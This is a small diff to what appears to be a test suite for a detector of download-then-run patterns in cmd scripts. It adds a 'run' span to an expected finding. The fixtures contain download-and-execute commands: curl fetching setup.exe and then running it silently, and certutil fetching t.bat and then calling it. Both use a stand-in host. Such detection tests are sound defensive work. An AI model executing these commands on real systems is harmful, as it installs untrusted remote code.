@@ -74,6 +74,7 @@ describe('commands, expansions, sinks (cmd)', () => {
         kind: 'download-then-run',
         ...spanOf(s, 'curl -L -o setup.exe https://a.example/setup.exe\nsetup.exe /S'),
         url: 'https://a.example/setup.exe',
+        run: spanOf(s, 'setup.exe /S'),
       },
     ]);
     const c = 'certutil -urlcache -split -f https://a.example/t.bat t.bat\ncall t.bat\n';
